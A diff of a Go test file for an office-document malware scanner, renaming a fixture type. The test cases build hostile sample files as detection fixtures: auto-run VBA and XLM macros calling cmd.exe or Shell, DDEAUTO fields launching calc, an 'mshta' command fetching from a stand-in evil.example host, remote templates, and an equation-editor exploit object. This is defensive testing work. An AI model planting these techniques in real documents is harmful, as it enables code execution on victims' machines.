@@ -70,9 +70,9 @@ func record12(kind byte, v ...byte) []byte {
 func xlsb() []byte {
 	sheet := append([]byte{2, 0, 0, 0, 2, 0, 0, 0}, append(wide("rId2"), wide("Macro1")...)...)
 	name := append(make([]byte, 9), wide("_xlnm.Auto_Open")...)
-	return scantest.Zip(scantest.File{Name: "xl/workbook.bin", Data: string(append(record12(156, sheet...), record12(39, name...)...))},
+	return scantest.Zip(scantest.Entry{Name: "xl/workbook.bin", Data: string(append(record12(156, sheet...), record12(39, name...)...))},
 		scantest.Rels("xl/workbook.bin", scantest.Relation{ID: "rId2", Kind: "xlMacrosheet", Target: "macrosheets/sheet1.bin"}),
-		scantest.File{Name: "xl/macrosheets/sheet1.bin", Data: string(sheet12([]byte{0x17, 4, 0, 'c', 0, 'a', 0, 'l', 0, 'c', 0, 0x42, 1, 110, 0}))})
+		scantest.Entry{Name: "xl/macrosheets/sheet1.bin", Data: string(sheet12([]byte{0x17, 4, 0, 'c', 0, 'a', 0, 'l', 0, 'c', 0, 0x42, 1, 110, 0}))})
 }
 
 // equation is the content of an equation whose font name runs over.
@@ -125,8 +125,8 @@ func activeMime(project []byte) []byte {
 	return b.Bytes()
 }
 
-func odt(content string, further ...scantest.File) []byte {
-	return scantest.Zip(append([]scantest.File{{Name: "mimetype", Data: "application/vnd.oasis.opendocument.text"}, {Name: "content.xml", Data: content}}, further...)...)
+func odt(content string, further ...scantest.Entry) []byte {
+	return scantest.Zip(append([]scantest.Entry{{Name: "mimetype", Data: "application/vnd.oasis.opendocument.text"}, {Name: "content.xml", Data: content}}, further...)...)
 }
 
 // The facts that a document must raise, all of them and no others; then files, links and text that must come out of it.
@@ -149,7 +149,7 @@ var officeCases = []struct {
 	{"in variables", "a.docm", scantest.DOCM(nil, scantest.Module{Name: "M", Source: "Sub Document_Open()\r\na = \"cmd\": b = \".e\": c = \"xe\"\r\nd = a & b\r\nd = d & c\r\nRun d\r\nEnd Sub\r\n"}), "macro-document macro-attack macro-starts-alone macro-hidden", "", "", ""},
 	{"source taken out", "a.docm", scantest.DOCM([]string{"Document_Open", "Shell"}, scantest.Module{Name: "ThisDocument"}), "macro-source-removed", "", "", ""},
 	{"old doc with a dropper", "a.doc", scantest.OLE(append(scantest.VBA("Macros/", nil, scantest.Module{Name: "ThisDocument", Source: dropper}), scantest.Stream{Path: "WordDocument", Data: make([]byte, 600)})...), "macro-document macro-attack macro-starts-alone macro-hidden", "", "http://files.evil.example/a.ps1", ""},
-	{"ribbon that starts a macro", "a.docm", scantest.DOCX("", scantest.File{Name: "customUI/customUI.xml", Data: `<customUI onLoad="Begin"/>`}, scantest.File{Name: "word/vbaProject.bin", Data: string(scantest.OLE(scantest.VBA("", nil, scantest.Module{Name: "M", Source: "Sub Begin(r)\r\nShell x, 0\r\nEnd Sub\r\n"})...))}), "macro-document macro-attack macro-starts-alone", "", "", ""},
+	{"ribbon that starts a macro", "a.docm", scantest.DOCX("", scantest.Entry{Name: "customUI/customUI.xml", Data: `<customUI onLoad="Begin"/>`}, scantest.Entry{Name: "word/vbaProject.bin", Data: string(scantest.OLE(scantest.VBA("", nil, scantest.Module{Name: "M", Source: "Sub Begin(r)\r\nShell x, 0\r\nEnd Sub\r\n"})...))}), "macro-document macro-attack macro-starts-alone", "", "", ""},
 
 	{"template from the internet", "a.docx", scantest.DOCX("", scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: "https://cdn.evil.example/t.dotm", External: true})), "remote-template", "", "https://cdn.evil.example/t.dotm", ""},
 	{"template of the office", "a.docx", scantest.DOCX("", scantest.Rels("word/settings.xml", scantest.Relation{Kind: "attachedTemplate", Target: "https://northwind.sharepoint.com/t/letter.dotx", External: true})), "linked-file", "", "https://northwind.sharepoint.com/t/letter.dotx", ""},
@@ -162,28 +162,28 @@ var officeCases = []struct {
 	{"link pasted from a page", "a.docx", linked("hyperlink", "javascript:void(0)"), "", "", "", ""},
 	{"picture pasted from a help file", "a.docx", linked("image", `mk:@MSITStore:C:\help\a.chm::/1.gif`), "", "", "", ""},
 	{"remote picture", "a.docx", linked("image", "https://pixel.letters.example/1.png"), "remote-picture", "", "https://pixel.letters.example/1.png", ""},
-	{"ordinary letter", "a.docx", scantest.DOCX(`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>`, scantest.Rels("word/document.xml", scantest.Relation{Kind: "hyperlink", Target: "https://northwind.example/a?b=1&c=2", External: true}), scantest.File{Name: "word/media/image1.png", Data: "\x89PNG\r\n\x1a\n123"}), "", "image1.png", "https://northwind.example/a?b=1&c=2 our site", "our site"},
+	{"ordinary letter", "a.docx", scantest.DOCX(`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>`, scantest.Rels("word/document.xml", scantest.Relation{Kind: "hyperlink", Target: "https://northwind.example/a?b=1&c=2", External: true}), scantest.Entry{Name: "word/media/image1.png", Data: "\x89PNG\r\n\x1a\n123"}), "", "image1.png", "https://northwind.example/a?b=1&c=2 our site", "our site"},
 	{"field in runs", "a.docx", scantest.DOCX(scantest.Field(" DD", "EAU", `TO c:\\windows\\system32\\cmd.exe "/k `, `calc.exe" `)), "dde-program", "", "", ""},
 	{"field in numbers", "a.docx", scantest.DOCX(scantest.Field("DDEAUTO QUOTE 99 109 100 46 101 120 101 ")), "dde-program", "", "", ""},
 	{"field of a chart", "a.docx", scantest.DOCX(scantest.Field(`DDEAUTO Excel.Sheet.8 "C:\\data\\figures.xls" "Sheet1!R1C1"`)), "linked-file", "", "", ""},
 	{"field with a link", "a.docx", scantest.DOCX(scantest.Field(` HYPERLINK "https://shop.example/x" `)), "", "", "https://shop.example/x !Error", ""},
-	{"packed program", "a.docx", scantest.DOCX("", scantest.File{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "\x01Ole10Native", Data: scantest.Native("bill.js", []byte("WScript.Echo(1)"))}))}), "embedded-program", "oleObject1.bin bill.js", "", ""},
-	{"packed letter", "a.docx", scantest.DOCX("", scantest.File{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "\x01Ole10Native", Data: scantest.Native("notes.txt", []byte("some notes"))}))}), "", "oleObject1.bin notes.txt", "", ""},
-	{"sheet in a letter", "a.docx", scantest.DOCX("", scantest.File{Name: "word/embeddings/Sheet1.xlsx", Data: string(scantest.XLSX(""))}), "", "Sheet1.xlsx", "", ""},
-	{"equation that runs over", "a.docx", scantest.DOCX("", scantest.File{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "", CLSID: [16]byte{0x02, 0xCE, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}}, scantest.Stream{Path: "Equation Native", Data: equation()}))}), "equation-object equation-exploit", "oleObject1.bin", "", ""},
+	{"packed program", "a.docx", scantest.DOCX("", scantest.Entry{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "\x01Ole10Native", Data: scantest.Native("bill.js", []byte("WScript.Echo(1)"))}))}), "embedded-program", "oleObject1.bin bill.js", "", ""},
+	{"packed letter", "a.docx", scantest.DOCX("", scantest.Entry{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "\x01Ole10Native", Data: scantest.Native("notes.txt", []byte("some notes"))}))}), "", "oleObject1.bin notes.txt", "", ""},
+	{"sheet in a letter", "a.docx", scantest.DOCX("", scantest.Entry{Name: "word/embeddings/Sheet1.xlsx", Data: string(scantest.XLSX(""))}), "", "Sheet1.xlsx", "", ""},
+	{"equation that runs over", "a.docx", scantest.DOCX("", scantest.Entry{Name: "word/embeddings/oleObject1.bin", Data: string(scantest.OLE(scantest.Stream{Path: "", CLSID: [16]byte{0x02, 0xCE, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}}, scantest.Stream{Path: "Equation Native", Data: equation()}))}), "equation-object equation-exploit", "oleObject1.bin", "", ""},
 
 	{"workbook of the office", "a.xlsx", scantest.XLSX(`<sheets><sheet name="A" r:id="rId1" state="veryHidden"/></sheets>`, scantest.Rels("xl/externalLinks/externalLink1.xml", scantest.Relation{Kind: "externalLinkPath", Target: `file:///\\files01\finance\budget.xlsx`, External: true})), "linked-file", "", "", ""},
-	{"workbook that calls a program", "a.xlsx", scantest.XLSX("", scantest.File{Name: "xl/externalLinks/externalLink1.xml", Data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), "dde-program", "", "", ""},
-	{"macro sheet", "a.xlsm", scantest.XLSX(`<sheets><sheet name="M" r:id="rId9" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames>`, scantest.Rels("xl/workbook.xml", scantest.Relation{ID: "rId9", Kind: "xlMacrosheet", Target: "macrosheets/sheet1.xml"}), scantest.File{Name: "xl/macrosheets/sheet1.xml", Data: `<macrosheet><c><f>EXEC("mshta "&amp;"http://x.evil.example/a")</f></c></macrosheet>`}), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "http://x.evil.example/a", ""},
+	{"workbook that calls a program", "a.xlsx", scantest.XLSX("", scantest.Entry{Name: "xl/externalLinks/externalLink1.xml", Data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), "dde-program", "", "", ""},
+	{"macro sheet", "a.xlsm", scantest.XLSX(`<sheets><sheet name="M" r:id="rId9" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames>`, scantest.Rels("xl/workbook.xml", scantest.Relation{ID: "rId9", Kind: "xlMacrosheet", Target: "macrosheets/sheet1.xml"}), scantest.Entry{Name: "xl/macrosheets/sheet1.xml", Data: `<macrosheet><c><f>EXEC("mshta "&amp;"http://x.evil.example/a")</f></c></macrosheet>`}), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "http://x.evil.example/a", ""},
 	{"binary macro sheet", "a.xlsb", xlsb(), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
 	{"old macro sheet", "a.xls", scantest.XLS(xlm(2, true)...), "old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
 	{"old macro sheet in sight", "a.xls", scantest.XLS(xlm(0, false)...), "old-excel-macro macro-reaches-out", "", "", ""},
 	{"old macro sheet, locked with the usual word", "a.xls", scantest.LockXLS("VelvetSweatshop", xlm(2, true)...), "document-default-password old-excel-macro hidden-macro-sheet macro-attack macro-starts-alone", "", "", ""},
 	{"old macro sheet, locked", "a.xls", scantest.LockXLS("other", xlm(2, true)...), "document-locked", "", "", ""},
 	{"old locked workbook", "a.xls", scantest.XLS(scantest.Record(0x0809, 0, 6, 5, 0), scantest.Record(0x002F, 0, 0)), "document-locked", "", "", ""},
-	{"web query", "a.xlsx", scantest.XLSX("", scantest.File{Name: "xl/connections.xml", Data: `<connections><connection><webPr url="https://data.example/rates"/></connection></connections>`}), "linked-file", "", "https://data.example/rates", ""},
-	{"formula with a link", "a.xlsx", scantest.XLSX("", scantest.File{Name: "xl/worksheets/sheet2.xml", Data: `<worksheet><c><f>HYPERLINK("https://pay.example/1","Pay")</f></c></worksheet>`}), "", "", "https://pay.example/1", ""},
-	{"slide that starts a program", "a.pptx", scantest.Zip(scantest.File{Name: "ppt/presentation.xml", Data: "<p/>"}, scantest.File{Name: "ppt/slides/slide1.xml", Data: `<p:sld><a:t>Hover here</a:t><a:hlinkHover r:id="rId2" action="ppaction://program"/></p:sld>`}), "program-address", "", "", "Hover here"},
+	{"web query", "a.xlsx", scantest.XLSX("", scantest.Entry{Name: "xl/connections.xml", Data: `<connections><connection><webPr url="https://data.example/rates"/></connection></connections>`}), "linked-file", "", "https://data.example/rates", ""},
+	{"formula with a link", "a.xlsx", scantest.XLSX("", scantest.Entry{Name: "xl/worksheets/sheet2.xml", Data: `<worksheet><c><f>HYPERLINK("https://pay.example/1","Pay")</f></c></worksheet>`}), "", "", "https://pay.example/1", ""},
+	{"slide that starts a program", "a.pptx", scantest.Zip(scantest.Entry{Name: "ppt/presentation.xml", Data: "<p/>"}, scantest.Entry{Name: "ppt/slides/slide1.xml", Data: `<p:sld><a:t>Hover here</a:t><a:hlinkHover r:id="rId2" action="ppaction://program"/></p:sld>`}), "program-address", "", "", "Hover here"},
 
 	{"old doc with a field", "a.doc", word97("See \x13 HYPERLINK \"https://old.example/a\" \x14this page\x15 please", ""), "", "", "https://old.example/a this page", "See this page please"},
 	{"old doc with dde", "a.doc", word97("\x13DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"\x14x\x15", ""), "dde-program", "", "", ""},
@@ -199,17 +199,17 @@ var officeCases = []struct {
 	{"rtf link object", "a.rtf", scantest.RTF("Hi", scantest.OLE1("OLE2Link", scantest.OLE(scantest.Stream{Path: "\x01Ole", Data: moniker("https://l.evil.example/a.hta")})), `\objautlink\objupdate`, ""), "rtf-opening-object remote-object", "object.bin", "https://l.evil.example/a.hta", ""},
 	{"rtf template", "a.rtf", []byte(`{\rtf1{\*\template \u104?ttp\'3a//t.evil.example/x.dotm}Hi}`), "remote-template", "", "http://t.evil.example/x.dotm", ""},
 
-	{"note with a script", "a.one", scantest.OneNote(scantest.File{Name: "open.hta", Data: "<script>x</script>"}), "embedded-program", "open.hta", "", ""},
-	{"note with a letter", "a.one", scantest.OneNote(scantest.File{Name: "agenda.pdf", Data: "%PDF-1.4 x"}), "", "agenda.pdf", "", ""},
+	{"note with a script", "a.one", scantest.OneNote(scantest.Entry{Name: "open.hta", Data: "<script>x</script>"}), "embedded-program", "open.hta", "", ""},
+	{"note with a letter", "a.one", scantest.OneNote(scantest.Entry{Name: "agenda.pdf", Data: "%PDF-1.4 x"}), "", "agenda.pdf", "", ""},
 
-	{"saved message", "a.msg", scantest.MSG(scantest.Saved{Subject: "Invoice", HTML: `<p>Pay <a href="https://pay.evil.example/x">here</a></p>`, Files: []scantest.File{{Name: "run.vbs", Data: "x=1"}}, Messages: []scantest.Saved{{Subject: "Inner", Body: "see https://inner.example/a"}}}), "embedded-program", "run.vbs", "https://pay.evil.example/x here,https://inner.example/a", "Invoice"},
+	{"saved message", "a.msg", scantest.MSG(scantest.Saved{Subject: "Invoice", HTML: `<p>Pay <a href="https://pay.evil.example/x">here</a></p>`, Files: []scantest.Entry{{Name: "run.vbs", Data: "x=1"}}, Messages: []scantest.Saved{{Subject: "Inner", Body: "see https://inner.example/a"}}}), "embedded-program", "run.vbs", "https://pay.evil.example/x here,https://inner.example/a", "Invoice"},
 
 	{"locked workbook", "a.xlsx", scantest.Encrypt(scantest.XLSX(""), "k3y-unknown", 10), "document-locked", "", "", ""},
-	{"locked with the usual word", "a.xlsx", scantest.Encrypt(scantest.XLSX("", scantest.File{Name: "xl/externalLinks/externalLink1.xml", Data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), "VelvetSweatshop", 10), "document-default-password dde-program", "a.xlsx", "", ""},
+	{"locked with the usual word", "a.xlsx", scantest.Encrypt(scantest.XLSX("", scantest.Entry{Name: "xl/externalLinks/externalLink1.xml", Data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), "VelvetSweatshop", 10), "document-default-password dde-program", "a.xlsx", "", ""},
 
 	{"odt letter", "a.odt", odt(`<office:document-content><text:p>Dear reader, <text:a xlink:href="https://odt.example/a">look</text:a></text:p></office:document-content>`), "", "", "https://odt.example/a look", "Dear reader, look"},
-	{"odt with a macro on load", "a.odt", odt(`<office:document-content><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:document-content>`, scantest.File{Name: "Basic/Standard/Module1.xml", Data: `<script:module>Sub Main&#10;Shell(&quot;cmd.exe&quot;)&#10;End Sub</script:module>`}), "macro-document macro-attack macro-starts-alone", "", "", ""},
-	{"odt locked", "a.odt", odt("x", scantest.File{Name: "META-INF/manifest.xml", Data: `<m><manifest:encryption-data/></m>`}), "document-locked", "", "", ""},
+	{"odt with a macro on load", "a.odt", odt(`<office:document-content><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:document-content>`, scantest.Entry{Name: "Basic/Standard/Module1.xml", Data: `<script:module>Sub Main&#10;Shell(&quot;cmd.exe&quot;)&#10;End Sub</script:module>`}), "macro-document macro-attack macro-starts-alone", "", "", ""},
+	{"odt locked", "a.odt", odt("x", scantest.Entry{Name: "META-INF/manifest.xml", Data: `<m><manifest:encryption-data/></m>`}), "document-locked", "", "", ""},
 }
 
 func TestOffice(t *testing.T) {
